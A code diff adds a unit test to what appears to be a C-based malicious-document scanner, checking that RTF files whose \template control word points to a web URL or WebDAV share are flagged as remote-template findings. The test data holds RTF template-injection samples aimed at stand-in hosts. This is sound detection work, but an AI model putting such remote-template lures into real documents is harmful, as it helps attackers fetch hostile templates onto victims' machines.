@@ -327,10 +327,40 @@ ole1_parser_rejects_garbage(void **state)
 	assert_int_equal(rtf_ole1_parse(junk, 3, &o), -1);
 }
 
+/* {\*\template ...} on a web server or share is doc.remote_template; a local one
+ * (or none) is nothing; a truncated one is still judged at end of input. */
+static void
+remote_template(void **state)
+{
+	static const char web[] = "{\\rtf1{\\*\\template http://203.0.113.9/t.dotm}x}";
+	static const char unc[] = "{\\rtf1{\\*\\template \\\\\\\\dav.example@SSL\\\\w\\\\t.dot}}";
+	static const char local[] = "{\\rtf1{\\*\\template C:\\\\T\\\\Normal.dotm}}";
+	static const char cut[] = "{\\rtf1{\\*\\template https://203.0.113.9/t";
+	struct fx f;
+
+	(void)state;
+	fx_run(&f, web, sizeof(web) - 1);
+	assert_int_equal(report_nfindings(f.r), 1);
+	assert_string_equal(fx_find(&f, "doc.remote_template")->detail,
+	    "RTF \\template on a web URL: http://203.0.113.9/t.dotm");
+	fx_free(&f);
+	fx_run(&f, unc, sizeof(unc) - 1);
+	assert_string_equal(fx_find(&f, "doc.remote_template")->detail,
+	    "RTF \\template on a WebDAV share: \\\\dav.example@SSL\\w\\t.dot");
+	fx_free(&f);
+	fx_run(&f, local, sizeof(local) - 1);
+	assert_int_equal(report_nfindings(f.r), 0);
+	fx_free(&f);
+	fx_run(&f, cut, sizeof(cut) - 1);
+	assert_int_equal(fx_count(&f, "doc.remote_template"), 1);
+	fx_free(&f);
+}
+
 int
 main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(remote_template),
 		cmocka_unit_test(package_object_yields_its_file),
 		cmocka_unit_test(obfuscated_hex_decodes_like_word),
 		cmocka_unit_test(equation_is_called_out),
